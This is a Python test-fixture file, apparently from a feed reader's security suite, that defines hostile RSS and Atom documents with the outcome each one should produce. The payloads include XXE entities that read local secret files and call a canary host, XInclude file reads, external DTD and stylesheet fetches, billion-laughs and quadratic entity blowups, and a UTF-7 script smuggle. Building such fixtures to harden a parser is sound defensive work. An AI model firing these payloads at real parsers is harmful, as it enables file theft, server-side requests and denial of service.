# SPDX-License-Identifier: Apache-2.0
"""Documents that attack the reader of XML and JSON."""

import random
import zlib

from feeds import BRAND
from threats.threat import RSS, Threat, Want, document, made, rss

LATIN = rss(f"{BRAND} grüßt").encode("latin-1")
# Marked, so that it is known in any output.
FILE_TEXT = "the-text-of-a-local-file"


def _laughs() -> str:
    levels = "".join(f"<!ENTITY e{level} \"{f'&e{level - 1};' * 10}\">" for level in range(1, 11))
    return rss(f"{BRAND} &e10;", before=f"<!DOCTYPE rss [<!ENTITY e0 \"ha\">{levels}]>")


def _blowup() -> bytes:
    before = f"<!DOCTYPE rss [<!ENTITY a \"{'a' * 200_000}\">]>"
    return rss(BRAND, f"<description>{'&a;' * 20_000}</description>", before=before).encode()


def _attributes() -> bytes:
    attributes = " ".join(f"a{number}=''" for number in range(100_000))
    return rss(BRAND, f"<x {attributes}/>").encode()


def _attribute_entities() -> str:
    levels = "".join(f"<!ENTITY e{level} \"{f'&e{level - 1};' * 10}\">" for level in range(1, 11))
    return rss(BRAND, "<x a=\"&e10;\"/>",
               before=f"<!DOCTYPE rss [<!ENTITY e0 \"ha\">{levels}]>")


def _parameter_laughs() -> str:
    levels = "".join(f"<!ENTITY % p{level} '{f'&#37;p{level - 1};' * 10}'>"
                     for level in range(1, 11))
    return rss(BRAND, before=f"<!DOCTYPE rss [<!ENTITY % p0 'ha'>{levels}%p10;]>")


def _defaults() -> str:
    """Attributes by default that a DTD gives, for every element."""
    given = " ".join(f"a{number} CDATA '{'x' * 100}'" for number in range(1000))
    return rss(BRAND, "<x/>" * 5000, before=f"<!DOCTYPE rss [<!ATTLIST x {given}>]>")


def _namespaces() -> bytes:
    opened = "".join(f"<a{n} xmlns:p{n}='urn:{n}'>" for n in range(200))
    closed = "".join(f"</a{n}>" for n in reversed(range(200)))
    flood = " ".join(f"xmlns:q{n}='urn:q{n}'" for n in range(50_000))
    return rss(BRAND, f"{opened}{closed}<x {flood}/>").encode()


def _garbage() -> bytes:
    return random.Random(1).randbytes(40_000)


def _page(text: str) -> str:
    return f"<!doctype html><html><head><title>{BRAND}</title></head><body>{text}</body></html>"


XXE = rss(f"{BRAND} &file; &remote;", before=(
    "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"$canary/p.dtd\">%p;"
    "<!ENTITY file SYSTEM \"file://$secret\"><!ENTITY remote SYSTEM \"$canary/r\">]>"))
XXE_FILE = rss(f"{BRAND} &file;", before=(
    "<!DOCTYPE rss [<!ENTITY file SYSTEM \"file://$secret\">]>"))
XXE_ATOM = (
    "<!DOCTYPE feed [<!ENTITY file SYSTEM \"$secret\">]><feed xmlns='http://www.w3.org/2005/Atom'>"
    f"<title>x</title><entry><id>a</id><title>{BRAND}</title><content>&file;</content></entry>"
    "</feed>")
INCLUDE = rss(BRAND, (
    "<description xmlns:xi='http://www.w3.org/2001/XInclude'>"
    "<xi:include href='file://$secret' parse='text'/><xi:include href='$canary/x'/></description>"))
BASE = (
    "<feed xmlns='http://www.w3.org/2005/Atom' xml:base='$canary/'><title>x</title>"
    f"<link rel='self' href='$canary/self'/><link rel='next' href='$canary/next'/>"
    "<link rel='hub' href='$canary/hub'/><link rel='first' href='$canary/first'/>"
    f"<icon>$canary/i</icon><logo>$canary/l</logo><entry><id>a</id><title>{BRAND} opens</title>"
    "<link href='relative'/><content src='$canary/content' type='text/html'/></entry></feed>")

THREATS = [
    Threat("xxe-param", document(XXE), Want.EITHER, never=FILE_TEXT),
    Threat("xxe-file", document(XXE_FILE), Want.EITHER, never=FILE_TEXT),
    Threat("xxe-atom", document(XXE_ATOM, "application/atom+xml"), Want.EITHER, never=FILE_TEXT),
    Threat("xinclude", document(INCLUDE), Want.EITHER, never=FILE_TEXT),
    Threat("external-dtd", document(rss(before="<!DOCTYPE rss SYSTEM \"$canary/rss.dtd\">"))),
    Threat("external-dtd-public", document(rss(
        before="<!DOCTYPE rss PUBLIC \"-//Netscape//DTD RSS 0.91//EN\" \"$canary/rss.dtd\">"))),
    Threat("stylesheet-pi", document(rss(
        before="<?xml-stylesheet type=\"text/xsl\" href=\"$canary/style.xsl\"?>"))),
    Threat("schema-location", document(rss(more=(
        "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
        "xsi:schemaLocation='urn:x $canary/x.xsd' xsi:noNamespaceSchemaLocation='$canary/n'/>")))),
    Threat("links-canary", document(BASE, "application/atom+xml")),
    Threat("billion-laughs", document(_laughs()), Want.EITHER),
    Threat("attribute-laughs", document(_attribute_entities()), Want.EITHER),
    Threat("parameter-laughs", document(_parameter_laughs()), Want.EITHER),
    Threat("recursive-entity", document(rss(
        f"{BRAND} &a;", before="<!DOCTYPE rss [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>")),
        Want.EITHER),
    Threat("default-attributes", document(_defaults()), Want.EITHER),
    Threat("quadratic-blowup", made(_blowup), Want.EITHER),
    Threat("many-attributes", made(_attributes), Want.EITHER),
    Threat("many-namespaces", made(_namespaces), Want.EITHER),
    Threat("long-attribute", made(lambda: rss(BRAND, f"<x a='{'y' * 12_000_000}'/>").encode()),
           Want.EITHER),
    Threat("long-name", made(lambda: rss(BRAND, f"<{'y' * 9_000_000}/>").encode()), Want.EITHER),
    Threat("long-comment", made(lambda: rss(BRAND, f"<!--{'y' * 12_000_000}-->").encode()),
           Want.EITHER),
    Threat("long-cdata", made(lambda: rss(
        BRAND, f"<description><![CDATA[{'y ' * 6_000_000}]]></description>").encode()),
        Want.EITHER),
    Threat("many-instructions", made(lambda: rss(BRAND, "<?a b?>" * 1_500_000).encode()),
           Want.EITHER),
    Threat("many-elements", made(lambda: rss(BRAND, "<a/>" * 3_000_000).encode()), Want.EITHER),
    Threat("deep-xml", made(lambda: rss(BRAND, "<a>" * 200_000 + "</a>" * 200_000).encode()),
           Want.EITHER),
    Threat("deep-html", made(lambda: rss(
        BRAND, f"<description>{'&lt;b>' * 200_000}x</description>").encode()), Want.EITHER),
    Threat("nul-bytes", document(
        rss(f"{BRAND} o\0pens", "\0<x>\0</x>")), Want.EITHER),
    Threat("charset-lie", document(LATIN, f"{RSS}; charset=utf-8"), always="grüßt"),
    Threat("charset-lie-reversed", document(
        rss(f"{BRAND} grüßt", before="<?xml version='1.0' encoding='ISO-8859-1'?>"),
        f"{RSS}; charset=utf-8"), always="grüßt"),
    Threat("charset-unknown", document(
        rss(before="<?xml version='1.0' encoding='x-nowhere'?>")), Want.EITHER),
    Threat("charset-utf7", document(
        rss(f"{BRAND} +ADw-script+AD4-", before="<?xml version='1.0' encoding='utf-7'?>"),
        f"{RSS}; charset=utf-7"), Want.EITHER, never="<script"),
    Threat("charset-utf16", document(rss(f"{BRAND} grüßt").encode("utf-16")), always="grüßt"),
    Threat("charset-utf16-cut", document(rss(f"{BRAND} grüßt").encode("utf-16")[:-3]),
           Want.EITHER),
    Threat("charset-utf32", document(rss(f"{BRAND} grüßt").encode("utf-32")), Want.EITHER),
    Threat("charset-ebcdic", document(rss(
        before="<?xml version='1.0' encoding='IBM037'?>").encode("cp037")), Want.EITHER),
    Threat("utf8-overlong", document(rss(f"{BRAND} x\N{BULLET}").encode().replace(
        "\N{BULLET}".encode(), b"\xc0\xbc\xed\xa0\x80\xf8\x88\x80\x80\x80\xff\xfe")), Want.EITHER),
    Threat("cut-document", document(rss()[:-40]), Want.EITHER),
    Threat("html-200", document(_page("Service unavailable"), "text/html"), Want.REFUSED),
    Threat("html-200-as-rss", document(_page("Service unavailable")), Want.REFUSED),
    Threat("garbage-200", document(_garbage()), Want.REFUSED),
    Threat("gzip-file-200", document(zlib.compress(rss().encode())), Want.EITHER),
    Threat("empty-200", document(""), Want.REFUSED),
    Threat("blank-200", document(" \n" * 1000), Want.REFUSED),
    Threat("text-200", document(f"{BRAND}: the server is being repaired", "text/plain"),
           Want.REFUSED),
    Threat("svg-200", document(
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='$canary/i'/></svg>"), Want.REFUSED),
    Threat("soap-200", document(
        f"<Envelope><Body><Fault>{BRAND}</Fault></Body></Envelope>"), Want.REFUSED),
    Threat("json-200", document(f"{{\"error\":\"{BRAND}\"}}", "application/json"), Want.REFUSED),
]
